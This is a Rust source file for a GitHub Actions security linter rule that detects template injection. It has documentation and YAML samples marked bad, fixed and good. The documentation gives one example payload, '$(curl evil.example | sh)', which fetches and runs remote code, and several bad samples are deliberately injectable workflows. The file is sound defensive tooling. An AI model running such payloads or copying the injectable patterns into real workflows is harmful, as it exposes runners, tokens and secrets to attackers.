use policy_core::document::Ref;
use policy_core::flow::{Origin, Spot, origins_of};
use policy_core::model::github::Step;
use policy_core::model::github::expression::{Contribution, ExprKind, Expression, contributions};
use policy_core::rule::{
    Check, Confidence, Cx, Meta, Out, Pillar, Place, Platform, Reads, Rule, RuleFinding, Safety, Severity, Status,
};
use policy_core::unit::Site;

use crate::environment::through_variable;
use crate::injection::{Rating, rating};

pub(crate) static RULE: Rule = Rule {
    id: "template-injection",
    meta: Meta {
        title: "text that others choose becomes part of a script",
        pillar: Pillar::Access,
        platforms: &[Platform::Github],
        severity: Severity::High,
        confidence: Confidence::High,
        status: Status::Stable,
        since: "2026-11",
        fix: Some(Safety::Unsafe),
        maps: &["CICD-SEC-4"],
        aliases: &["zizmor/template-injection", "actionlint/expression", "poutine/injection", "checkov/CKV_GHA_2"],
    },
    reads: Reads::OwnFile,
    checks: &[Check::Step(check)],
    docs: crate::docs(DOCS),
};

/// Inputs of actions that the action runs as code, or as a template that can run code, as far as they are known.
const CODE_INPUTS: &[(&str, &[&str])] = &[
    ("8398a7/action-slack", &["custom_payload"]),
    ("actions/github-script", &["script"]),
    ("addnab/docker-run-action", &["options", "run"]),
    ("amadevus/pwsh-script", &["script"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("devorbitus/yq-action-output", &["cmd"]),
    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
    ("imjohnbo/issue-bot", &["body", "linked-comments-new-issue-text", "linked-comments-previous-issue-text"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("lucasbento/auto-close-issues", &["issue-close-message"]),
    ("mikefarah/yq", &["cmd"]),
    ("roots/issue-closer-action", &["issue-close-message", "pr-close-message"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("skitionek/notify-microsoft-teams", &["overwrite"]),
    ("tibdex/backport", &["body_template", "head_template", "labels_template", "title_template"]),
];

fn check<'u>(cx: &Cx<'u>, step: &'u Step<'u>, out: &mut Out<'u>) {
    if let Some(script) = step.run() {
        return check_script(cx, step, script, "this script", out);
    }
    let Some((_, remote)) = step.remote() else { return };
    let Some((_, inputs)) = CODE_INPUTS.iter().find(|(action, _)| remote.is(action)) else { return };
    for script in inputs.iter().filter_map(|input| step.input(input)) {
        check_script(cx, step, script, "code that this action runs", out);
    }
}

fn check_script<'u>(cx: &Cx<'u>, step: &'u Step<'u>, script: Ref<'u>, what: &str, out: &mut Out<'u>) {
    for site in cx.unit.sites_of(script) {
        let Ok(expression) = &site.expression else { continue };
        for part in contributions(expression) {
            let found = origins_of(Spot::of_step(cx.unit, step), expression, part, cx.budget);
            for (at, origin) in found.iter().enumerate() {
                let known = found.iter().take(at).any(|other| other.path == origin.path);
                if let Some(rating) = rating(cx, step, origin).filter(|_| !known) {
                    let finding = finding(site, expression, part, origin, what, rating);
                    out.found(finding.fixed(through_variable(cx, step, site)));
                }
            }
        }
    }
}

fn finding<'u>(
    site: &Site<'u>,
    expression: &Expression<'u>,
    part: Contribution,
    origin: &Origin<'u>,
    what: &str,
    rating: Rating,
) -> RuleFinding<'u> {
    let (path, span) = (&origin.path, expression.span(part.id));
    let named = match origin.named == *path {
        true => format!("`{path}`"),
        false => format!("`{}`, which holds `{path}`,", origin.named),
    };
    let finding = RuleFinding::new(
        Place::text(site.scalar, site.start + span.start..site.start + span.end, "pasted in before the script is read"),
        format!("{named} becomes part of {what}, and {}", rating.who),
        "give it to the step through `env:` and use the variable: `\"$NAME\"` in a shell, `process.env.NAME` in JavaScript",
        path,
    );
    let finding = origin.through.iter().fold(finding, |finding, place| finding.related(place.clone()));
    let finding = finding.attribute("context", path).attribute("expression", written(site, expression, part));
    rating.rate(finding)
}

// What is pasted in, as written: the path, or with what it is picked from the value of a call, all of it.
fn written<'u>(site: &Site<'u>, expression: &Expression<'u>, part: Contribution) -> &'u str {
    let root = expression.root();
    let picked = matches!(expression.kind(root), ExprKind::Property | ExprKind::Index) && expression.path(root).is_none();
    let span = expression.span(if picked { root } else { part.id });
    site.scalar.text().and_then(|text| text.get(site.start + span.start..site.start + span.end)).unwrap_or("")
}

const DOCS: &str = r#"
`${{ … }}` is replaced before the shell sees the script, so the text of an issue, a branch name or a commit message becomes code.
A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets. Text is followed to where it
comes from: through `env`, `matrix`, inputs, outputs of steps and jobs, and what scripts write to `GITHUB_ENV` and `GITHUB_OUTPUT`.

**Mend it:** hand the value over as an environment variable, and use the variable in quotes. A shell does not read the value of a
variable as code.

**How bad:** high for text that outsiders choose, where they can cause an event that runs with your token and secrets (`issues`,
`issue_comment`, `pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite
actions, whose events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of
`push`. Low where conditions keep outsiders out. Low to medium for other text, such as names of tags and branches, labels and
inputs: it takes someone who may write to the repository, or who calls the workflow. Informational where the file does not say what
the text is, as for outputs of actions.

Not reported: what can hold nothing that a shell acts on, such as numbers, commit ids, logins, names of repositories, addresses that
GitHub makes, inputs of the types boolean, number and choice, and texts of the file; a value that none of the workflow's events fills;
names of branches and tags where the filters of the events or a condition leave plain ones alone (`main`, `v[0-9]+.[0-9]+`), and where
all events run on the default branch or on a pull request's number; secrets, which have a rule of their own.

**It does not see:** what called workflows and actions put into their outputs; whether a value was checked before; scripts that read a
variable as code again, for which there is `script-rereads-text`.

```yaml bad
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "new issue"
          echo "${{ github.event.issue.title }}" # <-
```

```yaml fixed
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: |
          echo "new issue"
          echo "${ISSUE_TITLE}"
```

```yaml bad
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    env:
      TITLE: ${{ github.event.issue.title }}
    steps:
      - run: echo ${{ format('{0}', github.event.issue['body']) }} # <-
      - id: about
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - run: echo '${{ steps.about.outputs.title }}' # <-
```

```yaml bad
on: [pull_request_target, push]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: >-
            console.log("${{ github.head_ref || github.ref_name }}") // # <-
            console.log(`${{ toJSON(github.event.commits) }}`) // # <-
```

```yaml bad
# file: action.yml
name: greets
description: a composite action
inputs:
  name:
    description: whom to greet
runs:
  using: composite
  steps:
    - run: echo ${{ format('{0}', github.event.comment.body) }} # <-
      shell: bash
    - run: echo '${{ inputs.name }}' # <-
      shell: bash
```

```yaml bad
on:
  push:
    tags: ["*"]
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - env:
          NAME: value
        run: ./release.sh "${{ github.ref_name }}" # <-
```

```yaml fixed
on:
  push:
    tags: ["*"]
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - env:
          NAME: value
        run: ./release.sh "${GITHUB_REF_NAME}"
```

```yaml bad
on:
  workflow_dispatch:
    inputs:
      version:
        description: what to release
jobs:
  release:
    runs-on: windows-latest
    steps:
      - run: ./release.ps1 -Version "${{ inputs.version }}" # <-
        env:
          NAME: value
          INPUT_VERSION: another
      - run: echo ${{ github.event.inputs.version }} # <-
        shell: bash
```

```yaml fixed
on:
  workflow_dispatch:
    inputs:
      version:
        description: what to release
jobs:
  release:
    runs-on: windows-latest
    steps:
      - run: ./release.ps1 -Version "${env:INPUT_VERSION_2}"
        env:
          NAME: value
          INPUT_VERSION: another
          INPUT_VERSION_2: ${{ inputs.version }}
      - env:
          INPUT_VERSION: ${{ github.event.inputs.version }}
        run: echo ${INPUT_VERSION}
        shell: bash
```

```yaml good
on:
  push:
    tags: ["v[0-9]+.[0-9]+.[0-9]+"]
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release.sh "${{ github.ref_name }}"
```

```yaml good
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "$TITLE"
```

```yaml good
on: issue_comment
jobs:
  chatops:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ contains(github.event.comment.body, '/deploy') }} ${{ github.event.comment.body == 'x' && 'a' || 'b' }}
      - run: echo ${{ github.event.issue.number }} ${{ github.event.issue.user.login }} ${{ github.event.comment.id }}
```

```yaml good
on:
  push:
    branches: [main]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }} is empty here, and so is ${{ github.head_ref }}"
      - name: ${{ github.event.head_commit.message }}
        run: "true"
```

```yaml good
on:
  workflow_dispatch:
    inputs:
      level:
        type: choice
        options: [debug, info]
jobs:
  build:
    strategy:
      matrix:
        target: [linux, macos]
    runs-on: ubuntu-latest
    env:
      VERSION: 1.2.3
    steps:
      - run: ./build.sh ${{ inputs.level }} ${{ matrix.target }} ${{ env.VERSION }}
```
"#;
